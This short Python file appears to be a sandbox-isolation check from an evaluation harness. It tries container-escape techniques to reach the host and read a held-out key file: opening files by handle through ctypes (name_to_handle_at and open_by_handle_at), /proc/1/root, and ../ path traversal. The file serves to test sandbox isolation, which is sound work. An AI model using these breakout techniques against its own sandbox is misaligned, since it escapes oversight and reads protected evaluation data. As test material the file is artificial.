"""Reach the host through handles of files, mounts that are open, and old roots.

Ends: honest
Needs: held_out
"""

from __future__ import annotations

import ctypes
import os

from facts import HELD_OUT
from honest import run, through


def reach(job):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(b"\x80\x00\x00\x00\x01\x00\x00\x00" + bytes(128))
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, b"/", handle, ctypes.byref(mount), 0) == 0:
        root = os.open("/", os.O_RDONLY)
        if libc.open_by_handle_at(root, handle, os.O_RDONLY) >= 0:
            through("open a file by its handle")
    for path in ("/proc/1/root", "/proc/self/cwd/../../../../../../.."):
        try:
            with open(f"{path}{HELD_OUT}/key", "rb"):
                through(f"read held-out data through {path[:14]}")
        except OSError:
            pass


run(prepare=reach)
